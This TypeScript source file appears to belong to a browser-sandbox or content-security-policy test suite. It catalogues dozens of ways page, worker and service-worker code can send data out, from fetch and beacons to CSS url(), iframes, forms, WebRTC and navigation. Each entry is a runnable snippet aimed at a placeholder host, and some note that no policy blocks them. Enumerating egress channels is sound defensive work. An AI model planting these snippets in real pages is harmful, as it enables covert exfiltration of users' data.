/** All known ways in which code in a page could send something. */
export interface WayOut {
  name: string;
  /** The code's realm: `worker` is the engine's own, `site worker` the service worker. */
  realm: 'page' | 'worker' | 'site worker';
  /** The code, given the address `to` ("http://world.example:1234/name") and `host` ("world.example:1234"). */
  code: string;
  /** The page navigates away, so the way gets its own page. */
  leaves?: true;
  /** Why no policy stops it, as docs/trust.md states; absent if one does. */
  open?: string;
}

/** Markup in which TO is replaced with the address. */
const put = (markup: string) =>
  `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup)}.replaceAll('TO', to))`;
const link = (rel: string, rest = '') =>
  `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: to ${rest} }))`;
/** Scripts and style sheets inserted as markup do not run, so they are created as elements. */
const element = (tag: string, properties: string) =>
  `document.body.append(Object.assign(document.createElement('${tag}'), ${properties}))`;

const NAVIGATION = 'no policy stops a page from going elsewhere, which is what a link does; it is seen at once';

const EVERYWHERE = {
  fetch: `fetch(to, { method: 'POST', mode: 'no-cors', body: 'data' })`,
  'fetch that outlives the page': `fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'data' })`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('POST', to); request.send('data')`,
  WebSocket: `new WebSocket(to.replace('http', 'ws'))`,
  EventSource: `new EventSource(to)`,
  WebTransport: `new WebTransport(to.replace('http', 'https')).ready.catch(() => {})`,
  'import()': `import(to).catch(() => {})`,
} as const;

const everywhere = (realm: 'page' | 'worker'): WayOut[] =>
  Object.entries(EVERYWHERE).map(([name, code]) => ({
    name: `${name}${realm === 'worker' ? ' in a worker' : ''}`,
    realm,
    code,
  }));

const page = (ways: Record<string, string>): WayOut[] =>
  Object.entries(ways).map(([name, code]) => ({ name, realm: 'page', code }));

const leaving = (ways: Record<string, string>): WayOut[] =>
  Object.entries(ways).map(([name, code]) => ({ name, realm: 'page', code, leaves: true, open: NAVIGATION }));

export const WAYS_OUT: readonly WayOut[] = [
  ...everywhere('page'),
  ...page({
    beacon: `navigator.sendBeacon(to, 'data')`,
    'fetch later': `window.fetchLater?.(to, { activateAfter: 0 })`,
    image: `new Image().src = to`,
    'image set': put('<img srcset="TO 2x, TO 1x">'),
    'picture source': put('<picture><source srcset="TO"><img></picture>'),
    'image in a drawing': put('<svg><image href="TO"/></svg>'),
    'use in a drawing': put('<svg><use href="TO#a"/></svg>'),
    'filter from elsewhere': put('<div style="filter: url(TO#a)">a</div>'),
    video: put('<video src="TO" poster="TO" preload="auto"></video>'),
    audio: `new Audio(to).play().catch(() => {})`,
    track: put('<video><track default src="TO"></video>'),
    'input image': put('<input type="image" src="TO">'),
    script: element('script', '{ src: to }'),
    'module script': element('script', `{ src: to, type: 'module' }`),
    'inline script': element('script', `{ textContent: 'fetch("' + to + '", { mode: "no-cors" })' }`),
    'handler in markup': put(`<img src="data:," onerror="fetch('TO', { mode: 'no-cors' })">`),
    eval: `try { (0, eval)('fetch("' + to + '", { mode: "no-cors" })') } catch {}`,
    'style sheet': link('stylesheet'),
    '@import': element('style', `{ textContent: '@import url("' + to + '");' }`),
    'background of CSS': put('<div style="background: url(TO); width: 9px; height: 9px">a</div>'),
    'font of CSS': `new FontFace('a', 'url(' + to + ')').load().catch(() => {})`,
    'cursor of CSS': put('<div style="cursor: url(TO), auto">a</div>'),
    prefetch: link('prefetch'),
    preconnect: link('preconnect'),
    preload: link('preload', `, as: 'image'`),
    modulepreload: link('modulepreload'),
    icon: link('icon'),
    manifest: link('manifest'),
    'speculation rules': element(
      'script',
      `{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [to] }], prerender: [{ urls: [to] }] }) }`,
    ),
    frame: put('<iframe src="TO"></iframe>'),
    'frame with a document': put(`<iframe srcdoc="<img src='TO'>"></iframe>`),
    'empty frame': `{ const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.fetch(to, { mode: 'no-cors' }).catch(() => {}); new frame.contentWindow.Image().src = to }`,
    object: put('<object data="TO"></object>'),
    embed: put('<embed src="TO">'),
    'form into a frame':
      put('<iframe name="f"></iframe><form target="f" method="post" action="TO"><input name="a" value="data"></form>') +
      `; document.body.lastElementChild.submit()`,
    worker: `try { new Worker(to) } catch {}`,
    'shared worker': `try { new SharedWorker(to) } catch {}`,
    'worker of a blob': `try { new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '", { mode: "no-cors" })']))) } catch {}`,
    'service worker from elsewhere': `navigator.serviceWorker?.register(to).catch(() => {})`,
    'WebAssembly from elsewhere': `WebAssembly.instantiateStreaming(fetch(to)).catch(() => {})`,
    worklet: `window.CSS?.paintWorklet?.addModule(to).catch(() => {}); new OfflineAudioContext(1, 1, 8000).audioWorklet?.addModule(to).catch(() => {})`,
    'ping of a link': `${put('<a id="ping" href="#x" ping="TO">a</a>')}; document.getElementById('ping').click()`,
    payment: `try { new PaymentRequest([{ supportedMethods: to }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {}) } catch {}`,
  }),
  {
    name: 'WebRTC',
    realm: 'page',
    code: `{ const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }, { urls: 'turn:' + host + '?transport=tcp', username: 'data', credential: 'data' }] }); peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) }`,
    open: 'there is no policy for it: Chromium 156 does not know the `webrtc` directive, and warns of it',
  },
  ...leaving({
    'going there': `location.href = to`,
    'a link': `${put('<a id="out" href="TO">a</a>')}; document.getElementById('out').click()`,
    'a new window': `window.open(to)`,
    'a download': `Object.assign(document.createElement('a'), { href: to, download: 'a' }).click()`,
    'a refresh in markup': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + to + '">')`,
  }),
  {
    name: 'a form',
    realm: 'page',
    leaves: true,
    code:
      put('<form method="post" action="TO"><input name="a" value="data"></form>') +
      '; document.body.lastElementChild.submit()',
  },
  ...everywhere('worker'),
  { name: 'importScripts in a worker', realm: 'worker', code: 'try { importScripts(to) } catch {}' },
  { name: 'a worker of a worker', realm: 'worker', code: `try { new Worker(to) } catch {}` },
  { name: 'fetch in the service worker', realm: 'site worker', code: EVERYWHERE.fetch },
  { name: 'importScripts in the service worker', realm: 'site worker', code: 'try { importScripts(to) } catch {}' },
  { name: 'WebSocket in the service worker', realm: 'site worker', code: EVERYWHERE.WebSocket },
];
